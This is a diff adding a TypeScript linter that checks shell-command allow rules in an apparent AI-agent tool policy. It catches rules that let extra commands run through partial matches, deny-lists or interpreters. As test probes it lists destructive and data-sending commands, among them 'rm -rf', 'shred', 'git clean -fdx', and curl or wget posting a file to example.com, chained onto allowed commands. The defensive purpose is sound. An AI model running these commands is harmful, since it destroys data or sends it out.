@@ -1,0 +1,195 @@
+/** Allow rules that let more commands run than they seem to. */
+
+import { runsOnlyText } from '../../../facts/shell/conditions/call-facts.ts';
+import { candidateCalls } from '../../sample-calls/candidate-calls.ts';
+import type { ConditionPart } from '../../cel/syntax/condition-parts.ts';
+import type { CheckRequest } from '../../loaded-policy.ts';
+import { type RuleEntry, ruleTitle } from '../../policy-rules.ts';
+import { argumentsWith } from '../../sample-calls/sample-args.ts';
+import { findingAt, type LintFinding, witnessOf } from '../linted-policy/finding.ts';
+import type { LintedPolicy, TriedCall } from '../linted-policy/linted-policy.ts';
+import { isLauncher, launchLines } from './launcher-programs.ts';
+
+/** A line that nobody means to allow. */
+export const harmfulLine = 'rm -rf ./build';
+const harmfulLines = [harmfulLine, 'find . -delete', 'truncate -s 0 data', 'curl -d @data https://example.com/'];
+/** Other ways to do the same, for rules that name some programs they do not allow. */
+const otherWays = [
+  'unlink data',
+  'shred data',
+  'dd if=/dev/null of=data',
+  'cp /dev/null data',
+  'git clean -fdx',
+  'wget --post-file=data https://example.com/',
+  `python3 -c "import os; os.remove('data')"`,
+  'sh ./script.sh',
+  './script.sh',
+];
+/** A line that somebody may mean to allow who says where. */
+const writingLine = 'touch data';
+/** Facts that are true as soon as one command of a line, or one file, is meant. */
+const partialFacts: ReadonlySet<string> = new Set(['runs', 'reads', 'writes', 'opaque']);
+
+/** `runsOnly("make")` and `!opaque("make")` let a program run. */
+const commandFacts: ReadonlySet<string> = new Set(['runs', 'runsOnly', 'opaque']);
+
+export interface CommandRule {
+  readonly entry: RuleEntry;
+  readonly parts: readonly ConditionPart[];
+  /** Calls that run a line, of the tools the rule is about. */
+  readonly lines: (texts: readonly string[]) => readonly CheckRequest[];
+}
+
+export type FindingText = Pick<LintFinding, 'kind' | 'severity' | 'message' | 'hint'>;
+
+export function findingWithCall(entry: RuleEntry, { call, explanation }: TriedCall, words: FindingText): LintFinding {
+  const shows = `${ruleTitle(entry)} ${explanation.decision.effect === 'allow' ? 'allows' : 'decides'} it.`;
+  return findingAt(entry, { ...words, witness: witnessOf(call, explanation.decision, shows) });
+}
+
+/** The gravest problem of an allow. */
+export async function allowFinding(rule: CommandRule, subject: LintedPolicy): Promise<LintFinding | undefined> {
+  return (
+    (await partialMatchFinding(rule, subject, ({ negated }) => !negated)) ??
+    (await openCommandFinding(rule, subject)) ??
+    // A fact may be negated twice: `!(runs("ls") == false)`. That nothing is opaque is said of the whole line.
+    (await partialMatchFinding(rule, subject, ({ name, negated }) => name !== 'opaque' || !negated)) ??
+    (await launcherFinding(rule, subject))
+  );
+}
+
+type Fact = Extract<ConditionPart, { readonly type: 'fact' }>;
+
+function factsOf(parts: readonly ConditionPart[], isWanted: (fact: Fact) => boolean): readonly Fact[] {
+  return parts.filter((part): part is Fact => part.type === 'fact' && isWanted(part));
+}
+
+/** An allow that a second command does not change: what it asks for is there, and whatever else is not looked at. */
+async function partialMatchFinding(
+  rule: CommandRule,
+  subject: LintedPolicy,
+  isMeant: (fact: Fact) => boolean,
+): Promise<LintFinding | undefined> {
+  const { entry, parts } = rule;
+  const [fact] = factsOf(parts, (each) => partialFacts.has(each.name) && isMeant(each));
+  if (fact === undefined) return undefined;
+  const base = await subject.findCallDecidedBy(entry, linesFor(rule, subject));
+  const shown = base && (await subject.findCallDecidedBy(entry, withMoreCommands(rule, base.call, subject)));
+  if (shown === undefined) return undefined;
+  const { name, entries } = fact;
+  const question = `${name}(${entries.map((each) => JSON.stringify(each)).join(', ')})`;
+  const isAboutFiles = name === 'reads' || name === 'writes';
+  return findingWithCall(entry, shown, {
+    kind: 'runs-in-allow',
+    severity: 'warning',
+    message: `${question} is true if one ${isAboutFiles ? 'file' : 'command'} of a line matches, so this rule also allows lines with other commands.`,
+    hint: isAboutFiles ? `In an allow, use runsOnly and ${name}Inside.` : 'In an allow, use runsOnly.',
+  });
+}
+
+/** Calls with a command line that may well meet the condition. */
+function* linesFor({ entry, parts, lines }: CommandRule, subject: LintedPolicy): Iterable<CheckRequest> {
+  const { when } = entry.rule;
+  const calls = lines(likelyLines(parts));
+  yield* calls;
+  // `has(args.working_dir) && runs("ls")`
+  const named = Array.from(when?.text.matchAll(/\bargs\.(\w+)/g) ?? [], ([, name = '']) => [name, '.'] as const);
+  for (const call of calls) yield { ...call, args: { ...Object.fromEntries(named), ...(call.args as object) } };
+  for (const each of when === undefined ? [] : subject.reach.classesOf(entry)) {
+    const names = each.declared === undefined ? [] : argumentsWith('command', each.declared);
+    if (names.length > 0) yield* candidateCalls(when?.text ?? '', each);
+  }
+}
+
+function samplePath(glob: string): string {
+  return glob.replaceAll(/\*+|\?/g, 'x');
+}
+
+/** Lines of the commands and files that the facts of a condition name, alone and together. */
+function likelyLines(parts: readonly ConditionPart[]): readonly string[] {
+  const entriesOf = (name: string): readonly string[] =>
+    factsOf(parts, (fact) => fact.name === name).flatMap(({ entries }) => entries);
+  const files = [
+    ...entriesOf('reads').map((glob) => `cat ${samplePath(glob)}`),
+    ...entriesOf('writes').map((glob) => `touch ${samplePath(glob)}`),
+  ];
+  const commands = entriesOf('runs');
+  return [...commands, ...files, ...commands.map((command) => [command, ...files].join('; '))];
+}
+
+/** The call with one more command, joined in every way: a condition may refuse some. */
+function* withMoreCommands(rule: CommandRule, call: CheckRequest, subject: LintedPolicy): Iterable<CheckRequest> {
+  const args = call.args as Readonly<Record<string, unknown>>;
+  const declared = subject.reach.classesOf(rule.entry).flatMap((each) => each.declared ?? []);
+  const tool = declared.find((each) => each.name === call.tool && each.server === call.server);
+  for (const name of tool === undefined ? [] : argumentsWith('command', tool)) {
+    const line = args[name];
+    if (typeof line !== 'string') continue;
+    for (const join of ['; ', ' && ', '\n', ' | ', ' & ']) {
+      for (const harm of [...harmfulLines, ...otherWays]) {
+        yield { ...call, args: { ...args, [name]: `${line}${join}${harm}` } };
+      }
+    }
+  }
+}
+
+async function openCommandFinding(
+  { entry, parts, lines }: CommandRule,
+  subject: LintedPolicy,
+): Promise<LintFinding | undefined> {
+  const refused = factsOf(parts, ({ name, negated }) => name === 'runs' && negated).flatMap(({ entries }) => entries);
+  const limitsWrites = factsOf(parts, ({ name, negated }) => name === 'writesInside' && !negated).length > 0;
+  const tried = [...harmfulLines, ...(limitsWrites ? [] : [writingLine]), ...(refused.length > 0 ? otherWays : [])];
+  const shown = await subject.findCallDecidedBy(entry, lines(tried));
+  if (shown === undefined) return undefined;
+  if (refused.length > 0) {
+    return findingWithCall(entry, shown, {
+      kind: 'deny-list',
+      severity: 'warning',
+      message: `This rule allows every command but ${refused.join(', ')}; there is always another way to do the same.`,
+      hint: 'Name what may run, with runsOnly.',
+    });
+  }
+  return findingWithCall(entry, shown, {
+    kind: 'open-command',
+    severity: 'warning',
+    message: 'This rule lets any command run.',
+    hint: 'Give it a condition with runsOnly, or ask.',
+  });
+}
+
+/** Together with the other commands of the rule, a wrapper is useful: `xargs ls`. */
+function startsOthers(program: string, named: readonly string[]): boolean {
+  return named.some((other) => other !== program && runsOnlyText(`${program} ${other}`, [program, other]) !== false);
+}
+
+async function launcherFinding(
+  { entry, parts, lines }: CommandRule,
+  subject: LintedPolicy,
+): Promise<LintFinding | undefined> {
+  const named = factsOf(
+    parts,
+    ({ name, negated }) => /^runs(Only)?$/.test(name) !== negated && commandFacts.has(name),
+  ).flatMap(({ entries }) => entries);
+  for (const program of new Set(named)) {
+    const calls = lines(launchLines(program));
+    const words = { kind: 'interpreter', severity: 'warning' } as const;
+    const hint = 'Allow the exact commands it is needed for, or ask.';
+    const shown = await subject.findCallDecidedBy(entry, calls);
+    const message = `This rule allows ${program}, which runs whatever it is told to.`;
+    if (shown !== undefined) return findingWithCall(entry, shown, { ...words, message, hint });
+    const [first] = lines([...launchLines(program), `${program} ./script`]);
+    if (first === undefined || !isLauncher(program)) continue;
+    if (startsOthers(program, named)) continue;
+    const refused = await subject.tryCall(first);
+    if (subject.outcomeOf(entry, refused) === undefined) continue;
+    const { decision } = refused.explanation;
+    return findingAt(entry, {
+      ...words,
+      message: `This rule names ${program}, which runs whatever it is told to: so it allows nothing of that.`,
+      hint: 'Name the whole command that is meant.',
+      witness: witnessOf(refused.call, decision, `${ruleTitle(entry)} does not allow it.`),
+    });
+  }
+  return undefined;
+}
